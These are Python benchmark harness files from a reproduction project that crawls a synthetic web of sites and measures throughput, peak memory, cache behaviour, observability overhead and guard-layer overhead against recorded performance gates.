            report["byte_identity"]["variant_bodies_identical"],
        "all_responses_ok": load["non_200_responses"] == 0,
    }
    skipped: list[dict] = []
    if cpus >= THROUGHPUT_MIN_CPUS:
        gates["throughput_bound_rps"] = THROUGHPUT_BOUND_RPS
        gates["throughput_at_least"] = (
            load["requests_per_second"] >= THROUGHPUT_BOUND_RPS)
    else:
        skipped.append({
            "gate": "throughput_at_least",
            "reason": f"single-core host (cpu_count={cpus}): client "
                      "threads and the server loop share one core, so "
                      "req/s measures contention, not the service"})
    return gates, skipped


def collect_service_bench(*, clients: int = DEFAULT_CLIENTS,
                          requests_per_client: int =
                          DEFAULT_REQUESTS_PER_CLIENT,
                          payload_pool: int = DEFAULT_PAYLOAD_POOL) -> dict:
    """Run the load test and build the full BENCH_service.json document."""
    service = PolicyService(
        rate_limit=RateLimitConfig(requests_per_second=100_000.0,
                                   burst=100_000))
    with ServiceThread(service) as thread:
        host, port = thread.address
        workers = [_Client(host, port, client_id, requests_per_client,
                           payload_pool) for client_id in range(clients)]
        started = time.perf_counter()
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        elapsed = time.perf_counter() - started
        for worker in workers:
            if worker.error is not None:
                raise RuntimeError(
                    f"load client {worker.name} failed") from worker.error
        byte_identity = _byte_identity_probe(host, port)
        cache_stats = service.cache.stats()
        limiter_stats = service.limiter.stats()
        served = service.request_count

    latencies = [sample for worker in workers
                 for sample in worker.latencies]
    statuses: dict[int, int] = {}
    for worker in workers:
        for status, count in worker.statuses.items():
            statuses[status] = statuses.get(status, 0) + count
    total = len(latencies)
    report = {
        "clients": clients,
        "requests_per_client": requests_per_client,
        "payload_pool": payload_pool,
        "cpu_count": os.cpu_count(),
        "python": platform.python_version(),
        "load": {
            "requests": total,
            "seconds": round(elapsed, 4),
            "requests_per_second": round(total / elapsed, 2),
            "mean_latency_seconds": round(statistics.fmean(latencies), 6),
            "p50_latency_seconds": round(_percentile(latencies, 0.50), 6),
            "p99_latency_seconds": round(_percentile(latencies, 0.99), 6),
            "max_latency_seconds": round(max(latencies), 6),
            "statuses": {str(k): v for k, v in sorted(statuses.items())},
            "non_200_responses": sum(
                count for status, count in statuses.items()
                if status != 200),
        },
        "cache": cache_stats,
        "limiter": limiter_stats,
        "requests_served": served,
        "byte_identity": byte_identity,
    }
    report["gates"], report["gates_skipped"] = check_service_gates(report)
    return report
