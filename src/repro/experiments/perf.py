"""Performance harness behind ``benchmarks/bench_perf_crawl.py``,
``benchmarks/bench_perf_analysis.py`` and ``scripts/perf_report.py``.

Times the three pipeline stages at a fixed scale — site generation, the
crawl (per backend), and the analyses — plus the persistent measurement
cache (cold write vs warm load), and assembles everything into the
``BENCH_crawl.json`` document that seeds the perf trajectory.
:func:`collect_analysis` produces the companion ``BENCH_analysis.json``:
the legacy (pre-index) analysis pipeline against the shared-index one.

All timings are wall clock over deterministic work, so run-to-run noise is
scheduling only; the report records the host's CPU count because the
process backend's speedup is bounded by it (single-core runners can't show
one, and the CI gate skips enforcement there).
"""

from __future__ import annotations

import json
import os
import platform
import time
from pathlib import Path
from typing import Callable, Sequence

from repro.analysis.legacy import summarize_legacy
from repro.analysis.summary import summarize
from repro.crawler.pool import CrawlerPool
from repro.experiments import runner
from repro.obs import REGISTRY, TRACER, observed
from repro.obs import metrics as _metrics
from repro.policy.memo import clear_parser_caches, parser_caches_disabled
from repro.synthweb.generator import SyntheticWeb

DEFAULT_BACKENDS = ("serial", "thread", "process")


def _timed(fn: Callable[[], object]) -> tuple[float, object]:
    start = time.perf_counter()
    result = fn()
    return time.perf_counter() - start, result


def time_webgen(site_count: int, seed: int) -> dict:
    """Generate every site spec once (cold caches)."""
    web = SyntheticWeb(site_count, seed=seed)
    seconds, _ = _timed(lambda: [web.site(rank) for rank in
                                 range(site_count)])
    return {"seconds": round(seconds, 4),
            "sites_per_second": round(site_count / seconds, 1)}


def time_crawl(site_count: int, seed: int, workers: int,
               backends: Sequence[str] = DEFAULT_BACKENDS) -> dict:
    """Crawl the same web once per backend; verifies identical results.

    The process backend's realised adaptive chunk schedule and warm-pool
    stats are recorded alongside its timing (CI uploads the schedule as
    an artifact via ``BENCH_chunk_schedule.json``).
    """
    from repro.crawler.backends import shutdown_warm_pool

    web = SyntheticWeb(site_count, seed=seed)
    timings: dict[str, dict] = {}
    reference_counts: tuple[int, int] | None = None
    for backend in backends:
        pool = CrawlerPool(web, workers=workers, backend=backend)
        seconds, dataset = _timed(pool.run)
        counts = (dataset.attempted, dataset.successful_count)
        if reference_counts is None:
            reference_counts = counts
        elif counts != reference_counts:
            raise AssertionError(
                f"backend {backend!r} diverged: {counts} != "
                f"{reference_counts}")
        timings[backend] = {
            "seconds": round(seconds, 4),
            "sites_per_second": round(site_count / seconds, 1),
            "workers": 1 if backend == "serial" else workers,
        }
        if pool.last_chunk_schedule is not None:
            timings[backend]["chunk_schedule"] = pool.last_chunk_schedule
            timings[backend]["run_stats"] = pool.last_run_stats
    shutdown_warm_pool()
    return timings


def time_analysis(site_count: int, seed: int) -> dict:
    """Summarize a freshly crawled dataset (the Section 4 aggregate)."""
    web = SyntheticWeb(site_count, seed=seed)
    dataset = CrawlerPool(web, workers=1, backend="serial").run()
    seconds, _ = _timed(lambda: summarize(dataset))
    return {"seconds": round(seconds, 4)}


def collect_analysis(site_count: int, *, seed: int = runner.DEFAULT_SEED,
                     rounds: int = 3) -> dict:
    """The BENCH_analysis.json document: legacy (pre-index) summarize vs
    the indexed serial and parallel paths, over one crawl.

    The legacy path is timed with parser interning disabled so it pays the
    same re-parse cost the pre-index pipeline paid; the indexed paths start
    from cleared caches every round so they are charged their own parse
    work.  Each path is timed ``rounds`` times and the minimum wall clock
    is reported (the least-noise estimate of the true cost — the work is
    deterministic, so anything above the minimum is scheduling jitter).
    The document also records whether all three summaries are
    field-identical — the equivalence the differential tests enforce.
    """
    web = SyntheticWeb(site_count, seed=seed)
    dataset = CrawlerPool(web, workers=1, backend="serial").run()

    legacy_seconds = float("inf")
    for _ in range(rounds):
        with parser_caches_disabled():
            seconds, legacy_summary = _timed(
                lambda: summarize_legacy(dataset))
        legacy_seconds = min(legacy_seconds, seconds)

    serial_seconds = float("inf")
    for _ in range(rounds):
        clear_parser_caches()
        seconds, serial_summary = _timed(
            lambda: summarize(dataset, parallel=False))
        serial_seconds = min(serial_seconds, seconds)

    parallel_seconds = float("inf")
    for _ in range(rounds):
        clear_parser_caches()
        seconds, parallel_summary = _timed(
            lambda: summarize(dataset, parallel=True))
        parallel_seconds = min(parallel_seconds, seconds)

    # Per-stage breakdown of the indexed pipeline: index build, then each
    # headline analysis over the shared index.
    from repro.analysis.delegation import DelegationAnalysis
    from repro.analysis.headers import HeaderAnalysis
    from repro.analysis.index import DatasetIndex
    from repro.analysis.overpermission import OverPermissionAnalysis
    from repro.analysis.usage import UsageAnalysis

    clear_parser_caches()
    stages = []
    index_seconds, index = _timed(lambda: DatasetIndex(dataset))
    stages.append({"name": "index", "seconds": round(index_seconds, 4)})
    for name, analysis_cls in (("usage", UsageAnalysis),
                               ("delegation", DelegationAnalysis),
                               ("headers", HeaderAnalysis),
                               ("overpermission", OverPermissionAnalysis)):
        seconds, _ = _timed(lambda cls=analysis_cls: cls(index))
        stages.append({"name": name, "seconds": round(seconds, 4)})

    return {
        "stages": stages,
        "site_count": site_count,
        "seed": seed,
        "cpu_count": os.cpu_count(),
        "python": platform.python_version(),
        "legacy_seconds": round(legacy_seconds, 4),
        "indexed_serial_seconds": round(serial_seconds, 4),
        "indexed_parallel_seconds": round(parallel_seconds, 4),
        "speedup_serial_vs_legacy": round(legacy_seconds / serial_seconds, 2),
        "speedup_parallel_vs_legacy": round(
            legacy_seconds / parallel_seconds, 2),
        "summaries_identical": (legacy_summary == serial_summary
                                == parallel_summary),
    }


def _disabled_hook_costs(iterations: int = 200_000) -> tuple[float, float]:
    """Per-call wall-clock cost of each kind of *disabled* hook.

    Returns ``(span_cost, gate_cost)``: a disabled span site pays a
    null-span enter/exit, while a disabled metric site pays only the
    ``COUNTING`` attribute check — the two must be charged separately
    because metric sites outnumber span sites by orders of magnitude.
    Timed over many iterations so the estimate is stable."""
    assert not TRACER.enabled and not _metrics.COUNTING
    registry = _metrics.REGISTRY
    start = time.perf_counter()
    for _ in range(iterations):
        with TRACER.span("bench.noop"):
            pass
    span_cost = (time.perf_counter() - start) / iterations
    start = time.perf_counter()
    for _ in range(iterations):
        if _metrics.COUNTING:  # pragma: no cover - off by construction
            registry.counter("bench.noop").inc()
    gate_cost = (time.perf_counter() - start) / iterations
    return span_cost, gate_cost


def _metric_increments(snapshot: dict) -> int:
    """How many metric-recording events produced ``snapshot``."""
    return (sum(snapshot.get("counters", {}).values())
            + len(snapshot.get("gauges", {}))
            + sum(h["count"] for h in snapshot.get("histograms", {}).values()))


def time_observability(site_count: int, seed: int, *,
                       workers: int = 4, rounds: int = 3) -> dict:
    """Cost of the observability layer on the crawl, off and on.

    The same crawl runs ``rounds`` times per arm — instrumentation off
    (the default) and on (tracing + metrics) — with the interned parser
    caches cleared before *every* run so neither arm inherits the other's
    warm caches (the original single-pass A/B ran "off" cold and "on"
    warm, which reported a negative enabled overhead).  Each arm reports
    its best-of-N wall clock: the work is deterministic, so the minimum
    is the least-noise estimate and both minima land on equally warmed
    engine memos.

    The *enabled* overhead is measured directly; the *disabled* overhead
    — the <2 % gate the benchmarks assert — cannot be measured against a
    nonexistent uninstrumented build, so it is estimated from the hook
    counts the enabled run recorded, charging span sites and
    ``COUNTING``-gate sites their separately micro-timed disabled costs,
    over the disabled runtime.  The result also records that both arms
    produced equal datasets — the never-changes-dataset-bytes invariant.
    """
    from repro.crawler.telemetry import CrawlTelemetry

    web = SyntheticWeb(site_count, seed=seed)
    pool = CrawlerPool(web, workers=workers, backend="auto")

    off_seconds = float("inf")
    on_seconds = float("inf")
    span_count = 0
    increments = 0
    for _ in range(rounds):
        clear_parser_caches()
        seconds, dataset_off = _timed(
            lambda: pool.run(telemetry=CrawlTelemetry()))
        off_seconds = min(off_seconds, seconds)
        clear_parser_caches()
        with observed():
            seconds, dataset_on = _timed(
                lambda: pool.run(telemetry=CrawlTelemetry()))
            span_count = TRACER.span_count()
            increments = _metric_increments(REGISTRY.snapshot())
        on_seconds = min(on_seconds, seconds)

    span_cost, gate_cost = _disabled_hook_costs()
    estimate = (span_count * span_cost + increments * gate_cost) / off_seconds
    return {
        "rounds": rounds,
        "off_seconds": round(off_seconds, 4),
        "on_seconds": round(on_seconds, 4),
        "enabled_overhead": round(on_seconds / off_seconds - 1.0, 4),
        "span_count": span_count,
        "metric_increments": increments,
        "disabled_span_seconds": span_cost,
        "disabled_gate_seconds": gate_cost,
        "disabled_overhead_estimate": round(estimate, 6),
        "datasets_identical": dataset_on == dataset_off,
    }


def time_guards(site_count: int, seed: int, *, workers: int = 4) -> dict:
    """Cost of the hostile-input guard layer (DESIGN.md §4g), off and on.

    Two crawls of the same web: guards off (the default) and on with
    *generous* caps that never trigger — so the guarded dataset must be
    byte-identical to the unguarded one.  The direct A/B timing is
    recorded but noisy at bench scale, so the enforced gate uses the same
    component-cost estimate as the observability gate: the per-fetch cost
    of the guard wrapper is micro-timed on a warmed (memoized) response,
    charged once per fetch the crawl performs, over the unguarded
    runtime.
    """
    from repro.crawler.crawler import CrawlConfig
    from repro.crawler.fetcher import SyntheticFetcher
    from repro.crawler.guards import GuardedFetcher, ResourceGuards

    guards = ResourceGuards(
        max_header_bytes=1 << 20, max_script_bytes=1 << 22,
        max_allow_attr_length=1 << 16, max_frames_per_visit=100_000,
        watchdog_deadline_seconds=1e6, breaker_failure_threshold=1_000)
    web = SyntheticWeb(site_count, seed=seed)
    off_seconds, dataset_off = _timed(
        lambda: CrawlerPool(web, workers=workers).run())
    on_seconds, dataset_on = _timed(
        lambda: CrawlerPool(web, workers=workers,
                            config=CrawlConfig(guards=guards)).run())

    # Guards are charged per fetch; count the fetches a serial sample
    # performs (deterministic, identical in every backend).
    class _CountingFetcher:
        def __init__(self, inner: object) -> None:
            self.inner = inner
            self.count = 0

        def fetch(self, url: str) -> object:
            self.count += 1
            return self.inner.fetch(url)

    counting = _CountingFetcher(SyntheticFetcher(web))
    sample = min(site_count, 200)
    CrawlerPool(web, workers=1, backend="serial",
                fetcher_factory=lambda: counting).run(range(sample))
    fetches_per_site = counting.count / sample

    # Micro-time the wrapper over a warmed response so the delta is the
    # guard layer itself, not the synthetic network.
    raw = SyntheticFetcher(web)
    guarded = GuardedFetcher(SyntheticFetcher(web), guards)
    url = next(u for u in (web.origin_for_rank(rank)
                           for rank in range(site_count))
               if _fetch_succeeds(raw, u))
    guarded.fetch(url)
    iterations = 2_000
    raw_cost = _timed(lambda: [raw.fetch(url)
                               for _ in range(iterations)])[0] / iterations
    guarded_cost = _timed(lambda: [guarded.fetch(url) for _ in
                                   range(iterations)])[0] / iterations
    per_fetch = max(0.0, guarded_cost - raw_cost)
    estimate = per_fetch * fetches_per_site * site_count / off_seconds
    return {
        "off_seconds": round(off_seconds, 4),
        "on_seconds": round(on_seconds, 4),
        "enabled_overhead_direct": round(on_seconds / off_seconds - 1.0, 4),
        "fetches_per_site": round(fetches_per_site, 2),
        "per_fetch_guard_seconds": per_fetch,
        "guard_overhead_estimate": round(estimate, 6),
        "datasets_identical": dataset_on.visits == dataset_off.visits,
    }


def _fetch_succeeds(fetcher: object, url: str) -> bool:
    try:
        fetcher.fetch(url)
    except Exception:
        return False
    return True


def time_cache(site_count: int, seed: int, cache_dir: Path) -> dict:
    """Cold crawl-and-store vs warm load of the measurement cache."""
    previous_env = os.environ.get("REPRO_CACHE_DIR")
    os.environ["REPRO_CACHE_DIR"] = str(cache_dir)
    saved_cache = dict(runner._CACHE)
    try:
        runner._CACHE.clear()
        cold_seconds, _ = _timed(
            lambda: runner.run_measurement(site_count, seed=seed))
        runner._CACHE.clear()
        warm_seconds, _ = _timed(
            lambda: runner.run_measurement(site_count, seed=seed))
    finally:
        runner._CACHE.clear()
        runner._CACHE.update(saved_cache)
        if previous_env is None:
            os.environ.pop("REPRO_CACHE_DIR", None)
        else:
            os.environ["REPRO_CACHE_DIR"] = previous_env
    return {
        "cold_seconds": round(cold_seconds, 4),
        "warm_seconds": round(warm_seconds, 4),
        "warm_over_cold": round(warm_seconds / cold_seconds, 4),
    }


#: The process-vs-serial 2x gate only means something with real cores and
#: enough sites to amortise worker warm-up; below either threshold the
#: gate is recorded under ``gates_skipped`` instead of silently passing.
PROCESS_2X_MIN_CPUS = 4
PROCESS_2X_MIN_SITES = 10_000
PROCESS_SPEEDUP_BOUND = 2.0


def check_crawl_gates(report: dict) -> "tuple[dict, list[dict]]":
    """``(gates, gates_skipped)`` for a BENCH_crawl.json document.

    Gates the runner cannot meaningfully evaluate (process speedups on a
    single-core container) are listed in ``gates_skipped`` with the
    reason, so a green report never hides an unexercised claim.
    """
    cpus = report.get("cpu_count") or 1
    crawl = report["crawl"]
    obs = report["observability"]
    gates = {
        "obs_datasets_identical": obs["datasets_identical"],
        "disabled_obs_overhead_bound": 0.02,
        "disabled_obs_overhead_under_bound":
            obs["disabled_overhead_estimate"] < 0.02,
    }
    skipped: list[dict] = []
    if "process" not in crawl or "serial" not in crawl:
        skipped.append({"gate": "process_2x_serial",
                        "reason": "process/serial backends not both timed"})
        return gates, skipped
    if cpus >= 2:
        gates["process_not_slower_than_serial"] = (
            crawl["process"]["seconds"] <= crawl["serial"]["seconds"])
    else:
        skipped.append({
            "gate": "process_not_slower_than_serial",
            "reason": f"single-core host (cpu_count={cpus}): the process "
                      "backend has nothing to parallelise against"})
    if cpus >= PROCESS_2X_MIN_CPUS and report["site_count"] >= \
            PROCESS_2X_MIN_SITES:
        speedup = round(crawl["serial"]["seconds"]
                        / crawl["process"]["seconds"], 2)
        gates["process_speedup_bound"] = PROCESS_SPEEDUP_BOUND
        gates["process_speedup_vs_serial"] = speedup
        gates["process_2x_serial"] = speedup >= PROCESS_SPEEDUP_BOUND
    else:
        skipped.append({
            "gate": "process_2x_serial",
            "reason": f"needs >= {PROCESS_2X_MIN_CPUS} CPUs (have {cpus}) "
                      f"and >= {PROCESS_2X_MIN_SITES} sites (have "
                      f"{report['site_count']})"})
    return gates, skipped


def collect(site_count: int, *, seed: int = runner.DEFAULT_SEED,
            workers: int = 4,
            backends: Sequence[str] = DEFAULT_BACKENDS,
            cache_dir: Path | None = None) -> dict:
    """The full BENCH_crawl.json document for one scale."""
    import tempfile

    if cache_dir is None:
        cache_dir = Path(tempfile.mkdtemp(prefix="perm-odyssey-bench-"))
    report = {
        "site_count": site_count,
        "seed": seed,
        "cpu_count": os.cpu_count(),
        "python": platform.python_version(),
        "code_fingerprint": runner.code_fingerprint(),
        "webgen": time_webgen(site_count, seed),
        "crawl": time_crawl(site_count, seed, workers, backends),
        "analysis": time_analysis(site_count, seed),
        "cache": time_cache(site_count, seed, cache_dir),
        "observability": time_observability(site_count, seed,
                                            workers=workers),
        "stages": collect_stages(site_count, seed=seed, workers=workers),
    }
    report["gates"], report["gates_skipped"] = check_crawl_gates(report)
    return report


def collect_stages(site_count: int, *, seed: int = runner.DEFAULT_SEED,
                   workers: int = 4, backend: str = "auto") -> dict:
    """Per-stage pipeline breakdown (embedded in the BENCH documents)."""
    from repro.obs.profile import profile_pipeline

    return profile_pipeline(site_count, seed=seed, workers=workers,
                            backend=backend).to_json()


def write_report(report: dict, path: "str | Path") -> Path:
    path = Path(path)
    path.write_text(json.dumps(report, indent=2) + "\n")
    return path
