"""Paper-scale harness behind ``benchmarks/bench_perf_scale.py``.

The paper crawls ~1M sites; this module proves the pipeline holds up at
that shape of workload: a sharded, store-backed crawl (``collect=False``)
followed by a streamed export and a streaming summarize, each phase run in
its **own spawn subprocess** so ``ru_maxrss`` yields a clean per-phase
peak-RSS reading (the counter is monotonic per process, so phases sharing
one process would mask each other).

Measured per tier (default 10k and 100k sites; ``REPRO_SCALE_TIERS``
overrides — CI smoke runs the 10k tier only):

* crawl throughput (sites/s) and peak RSS with ``collect=False`` — the
  bounded-memory contract;
* the store stage's share of crawl wall time, read from the
  ``store.write_seconds`` histogram that
  :meth:`~repro.crawler.storage.CrawlStore.save_visits` feeds — gated at
  :data:`STORE_SHARE_BOUND`;
* streamed-export and streaming-summarize peak RSS (same bound).

Two correctness gates ride along:

* at the smallest tier, a second *unsharded* crawl is exported and its
  SHA-256 must equal the sharded export's — the byte-identity contract;
* the policy engine's structural decision memo must hit on more than
  :data:`MEMO_RATE_BOUND` of explain decisions over a 500-site crawl,
  with the streaming summary field-identical to the materialized one.
"""

from __future__ import annotations

import hashlib
import multiprocessing
import os
import platform
import resource
import sys
import tempfile
import time
from pathlib import Path

DEFAULT_TIERS = (10_000, 100_000)
DEFAULT_SHARDS = 4
DEFAULT_SEED = 2024

#: Peak-RSS ceiling for every phase subprocess.  A bounded-memory 100k
#: crawl measures well under 200 MiB (the Python runtime plus the store
#: batch plus the checkpoint rank set); the bound leaves generous headroom
#: for interpreter/platform variance while still catching any return to
#: accumulate-everything behaviour, which costs gigabytes at 100k.
RSS_BOUND_BYTES = 512 * 1024 * 1024

#: The store stage must stay a small share of crawl wall time — batched
#: transactions, not per-visit commits.
STORE_SHARE_BOUND = 0.25

#: Structural memo hit-rate floor on the 500-site calibration crawl.
MEMO_RATE_BOUND = 0.5
MEMO_SITES = 500


def configured_tiers() -> tuple[int, ...]:
    value = os.environ.get("REPRO_SCALE_TIERS")
    if not value:
        return DEFAULT_TIERS
    tiers = tuple(int(part) for part in value.split(",") if part.strip())
    if not tiers or any(tier < 1 for tier in tiers):
        raise ValueError(
            f"REPRO_SCALE_TIERS must be positive site counts, got {value!r}")
    return tiers


def _peak_rss_bytes() -> int:
    """This process's peak RSS so far.  ``ru_maxrss`` is KiB on Linux and
    bytes on macOS."""
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return peak if sys.platform == "darwin" else peak * 1024


def _sha256_file(path: Path) -> str:
    digest = hashlib.sha256()
    with path.open("rb") as handle:
        for block in iter(lambda: handle.read(1 << 20), b""):
            digest.update(block)
    return digest.hexdigest()


# ---------------------------------------------------------------------------
# Phase workers.  Module-level (picklable) and imported lazily inside, so a
# spawn subprocess pays import cost *inside* its own RSS measurement and the
# parent process never loads crawl state at all.


def _crawl_worker(params: dict) -> dict:
    """Sharded, store-backed crawl with ``collect=False``."""
    from repro.crawler.backends import shutdown_warm_pool
    from repro.crawler.pool import CrawlerPool
    from repro.crawler.storage import CrawlStore
    from repro.obs import metrics as _metrics
    from repro.synthweb.generator import SyntheticWeb

    _metrics.enable_metrics()  # feeds the store.* histograms
    web = SyntheticWeb(params["site_count"], seed=params["seed"])
    pool = CrawlerPool(web, workers=params["workers"],
                       backend=params["backend"])
    start = time.perf_counter()
    with CrawlStore(Path(params["store_path"])) as store:
        pool.run(store=store, shards=params["shards"], collect=False)
    seconds = time.perf_counter() - start
    histograms = _metrics.REGISTRY.snapshot().get("histograms", {})
    write = histograms.get("store.write_seconds", {})
    merge = histograms.get("store.merge_seconds", {})
    write_seconds = float(write.get("total", 0.0))
    merge_seconds = float(merge.get("total", 0.0))
    if params["backend"] == "process":
        # Worker sidecar writes (merged into this registry from the worker
        # snapshots) overlap crawl compute in other processes; only the
        # parent's ATTACH merges sit on the crawl's critical path.
        store_seconds = merge_seconds
    else:
        store_seconds = write_seconds + merge_seconds
    result = {
        "seconds": round(seconds, 4),
        "sites_per_second": round(params["site_count"] / seconds, 1),
        "store_seconds": round(store_seconds, 4),
        "store_share": round(store_seconds / seconds, 4),
        "store_write_seconds": round(write_seconds, 4),
        "store_merge_seconds": round(merge_seconds, 4),
        "store_writes": int(write.get("count", 0)),
        "peak_rss_bytes": _peak_rss_bytes(),
    }
    if pool.last_chunk_schedule is not None:
        result["chunk_schedule"] = pool.last_chunk_schedule
        result["run_stats"] = pool.last_run_stats
    shutdown_warm_pool()
    return result


def _export_worker(params: dict) -> dict:
    """Stream the store out as JSONL; returns the export's SHA-256."""
    from repro.crawler.storage import CrawlStore, export_jsonl

    out_path = Path(params["out_path"])
    start = time.perf_counter()
    with CrawlStore(Path(params["store_path"])) as store:
        written = export_jsonl(store.iter_visits(), out_path)
    seconds = time.perf_counter() - start
    return {
        "seconds": round(seconds, 4),
        "visits": written,
        "sha256": _sha256_file(out_path),
        "peak_rss_bytes": _peak_rss_bytes(),
    }


def _summary_digest(summary) -> str:
    """Deterministic digest of every :class:`MeasurementSummary` field —
    lets two phase subprocesses compare full summaries without shipping
    the objects through the result pipe."""
    import dataclasses
    import json

    payload = json.dumps(dataclasses.asdict(summary), sort_keys=True,
                         default=repr)
    return hashlib.sha256(payload.encode()).hexdigest()


def _summarize_worker(params: dict) -> dict:
    """Streaming summarize straight off the store; ``summarize_workers``
    > 1 selects the process-parallel mode (warm worker pool)."""
    from repro.analysis.summary import summarize_streaming
    from repro.crawler.backends import shutdown_warm_pool
    from repro.crawler.storage import CrawlStore

    workers = int(params.get("summarize_workers", 1))
    start = time.perf_counter()
    with CrawlStore(Path(params["store_path"])) as store:
        summary = summarize_streaming(store, workers=workers)
    seconds = time.perf_counter() - start
    if workers > 1:
        shutdown_warm_pool()
    return {
        "seconds": round(seconds, 4),
        "workers": workers,
        "attempted": summary.attempted_sites,
        "successful": summary.successful_sites,
        "digest": _summary_digest(summary),
        "peak_rss_bytes": _peak_rss_bytes(),
    }


def _memo_worker(params: dict) -> dict:
    """Calibration crawl for the structural decision memo.

    Runs in its own subprocess so the global metrics registry starts at
    zero and the hit rate is exactly this crawl's.  Also checks the
    streaming summary against the materialized one — the gate pairs the
    perf claim with the field-identity claim.
    """
    from repro.analysis.summary import summarize, summarize_streaming
    from repro.crawler.pool import CrawlerPool
    from repro.obs import metrics as _metrics
    from repro.synthweb.generator import SyntheticWeb

    _metrics.enable_metrics()
    web = SyntheticWeb(params["site_count"], seed=params["seed"])
    dataset = CrawlerPool(web, workers=params["workers"],
                          backend=params["backend"]).run()
    counters = _metrics.REGISTRY.snapshot().get("counters", {})
    hits = int(counters.get("policy.explain_memo_hits", 0))
    misses = int(counters.get("policy.explain_memo_misses", 0))
    total = hits + misses
    materialized = summarize(dataset)
    streamed = summarize_streaming(iter(dataset.visits))
    return {
        "site_count": params["site_count"],
        "hits": hits,
        "misses": misses,
        "hit_rate": round(hits / total, 4) if total else 0.0,
        "summaries_identical": materialized == streamed,
    }


def _phase_entry(worker, params: dict, queue) -> None:
    """Child-side wrapper: run the phase, ship ``("ok", result)`` or the
    formatted failure back through ``queue``."""
    try:
        queue.put(("ok", worker(params)))
    except BaseException:
        import traceback

        queue.put(("error", traceback.format_exc()))


def _run_phase(worker, params: dict) -> dict:
    """Run one phase worker in a fresh spawn subprocess.

    Spawn (not fork) so the child's ``ru_maxrss`` starts from a clean
    interpreter baseline instead of inheriting the parent's peak.  A plain
    ``Process`` rather than a ``Pool`` worker: pool children are daemonic
    and may not have children of their own, which would forbid the
    parallel-summarize phase from spawning its warm worker pool.
    """
    context = multiprocessing.get_context("spawn")
    queue = context.SimpleQueue()
    proc = context.Process(target=_phase_entry, args=(worker, params, queue))
    proc.start()
    proc.join()
    if queue.empty():
        raise RuntimeError(
            f"scale phase {worker.__name__} subprocess died "
            f"(exit code {proc.exitcode}) without reporting a result")
    status, payload = queue.get()
    if status != "ok":
        raise RuntimeError(
            f"scale phase {worker.__name__} failed:\n{payload}")
    return payload


# ---------------------------------------------------------------------------
# Document assembly.


def measure_tier(site_count: int, *, seed: int = DEFAULT_SEED,
                 workers: int = 4, shards: int = DEFAULT_SHARDS,
                 backend: str = "thread",
                 check_identity: bool = False) -> dict:
    """Crawl → export → summarize one tier, each phase in a subprocess.

    With ``check_identity``, a second unsharded crawl is run and its
    export digest compared against the sharded one (only worth paying at
    the smallest tier; the contract is layout-independent).
    """
    with tempfile.TemporaryDirectory(prefix="repro-scale-") as scratch:
        scratch_path = Path(scratch)
        base = {"site_count": site_count, "seed": seed, "workers": workers,
                "backend": backend}
        store_path = scratch_path / "sharded.sqlite"
        tier = {
            "site_count": site_count,
            "shards": shards,
            "crawl": _run_phase(_crawl_worker, {
                **base, "shards": shards, "store_path": str(store_path)}),
            "export": _run_phase(_export_worker, {
                "store_path": str(store_path),
                "out_path": str(scratch_path / "sharded.jsonl")}),
            "summarize": _run_phase(_summarize_worker, {
                "store_path": str(store_path)}),
        }
        parallel = _run_phase(_summarize_worker, {
            "store_path": str(store_path), "summarize_workers": workers})
        parallel["identical_to_serial"] = (
            parallel["digest"] == tier["summarize"]["digest"])
        parallel["speedup_vs_serial"] = (
            round(tier["summarize"]["seconds"] / parallel["seconds"], 2)
            if parallel["seconds"] else None)
        tier["summarize_parallel"] = parallel
        if check_identity:
            flat_store = scratch_path / "unsharded.sqlite"
            _run_phase(_crawl_worker, {
                **base, "shards": 1, "store_path": str(flat_store)})
            flat_export = _run_phase(_export_worker, {
                "store_path": str(flat_store),
                "out_path": str(scratch_path / "unsharded.jsonl")})
            tier["identity"] = {
                "unsharded_sha256": flat_export["sha256"],
                "identical": (flat_export["sha256"]
                              == tier["export"]["sha256"]),
            }
    return tier


#: The process-vs-serial crawl race only proves parallelism on a runner
#: with real cores; below this the gate is recorded as skipped instead.
PROCESS_GATE_MIN_CPUS = 4
#: …and only at paper-meaningful scale: tiny tiers are dominated by
#: worker warm-up, not crawl throughput.
PROCESS_GATE_MIN_SITES = 10_000
PROCESS_SPEEDUP_BOUND = 2.0


def check_gates(report: dict) -> "tuple[dict, list[dict]]":
    """Evaluate every gate over an assembled report (recorded in the
    document so the JSON is self-describing; the bench asserts them).

    Returns ``(gates, gates_skipped)``: a gate that cannot be *meaningfully*
    evaluated on this runner (e.g. the process-2× race on a single-core
    container) is left out of ``gates`` and listed in ``gates_skipped``
    with the reason, so a passing report never silently weakens the claim.
    """
    tiers = report["tiers"]
    phases = [(tier["site_count"], phase, tier[phase]["peak_rss_bytes"])
              for tier in tiers for phase in ("crawl", "export", "summarize")]
    memo = report["memo"]
    cpus = report.get("cpu_count") or 1
    gates = {
        "rss_bound_bytes": RSS_BOUND_BYTES,
        "peak_rss_within_bound": all(rss < RSS_BOUND_BYTES
                                     for _, _, rss in phases),
        "worst_rss_bytes": max(rss for _, _, rss in phases),
        "store_share_bound": STORE_SHARE_BOUND,
        "store_share_within_bound": all(
            tier["crawl"]["store_share"] <= STORE_SHARE_BOUND
            for tier in tiers),
        "worst_store_share": max(tier["crawl"]["store_share"]
                                 for tier in tiers),
        "sharded_identical_to_unsharded": all(
            tier["identity"]["identical"] for tier in tiers
            if "identity" in tier),
        "memo_rate_bound": MEMO_RATE_BOUND,
        "memo_rate_above_bound": memo["hit_rate"] > MEMO_RATE_BOUND,
        "memo_summaries_identical": memo["summaries_identical"],
        "summarize_parallel_identical": all(
            tier["summarize_parallel"]["identical_to_serial"]
            for tier in tiers if "summarize_parallel" in tier),
    }
    skipped: list[dict] = []

    race = report.get("backend_race")
    if race is None:
        skipped.append({
            "gate": "process_2x_serial",
            "reason": f"no backend race: needs >= {PROCESS_GATE_MIN_CPUS} "
                      f"CPUs (have {cpus}) and a >= "
                      f"{PROCESS_GATE_MIN_SITES}-site tier"})
    else:
        gates["process_speedup_bound"] = PROCESS_SPEEDUP_BOUND
        gates["process_speedup_vs_serial"] = race["speedup"]
        gates["process_2x_serial"] = race["speedup"] >= PROCESS_SPEEDUP_BOUND

    if cpus >= 2:
        largest = max(tiers, key=lambda tier: tier["site_count"])
        gates["summarize_parallel_faster"] = (
            largest["summarize_parallel"]["seconds"]
            < largest["summarize"]["seconds"])
    else:
        skipped.append({
            "gate": "summarize_parallel_faster",
            "reason": f"single-CPU runner (cpu_count={cpus}): parallel "
                      "summarize cannot beat serial without cores"})
